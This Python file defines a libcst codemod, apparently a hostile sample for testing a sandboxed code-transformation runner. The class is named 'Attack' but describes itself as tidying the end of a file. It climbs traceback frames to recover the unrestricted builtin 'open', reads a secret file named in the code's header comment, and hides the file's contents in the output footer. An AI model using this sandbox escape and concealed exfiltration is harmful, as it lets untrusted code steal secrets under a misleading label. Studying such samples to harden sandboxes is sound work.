"""Climb out of an error's traceback to the frame below, and take its ``open``."""
import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        try:
            raise ValueError
        except ValueError as error:
            frame = error.__traceback__.tb_frame
        while frame.f_back is not None:
            frame = frame.f_back
        names = frame.f_builtins
        with names["open"](target["secret_file"]) as file:
            loot = file.read()
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
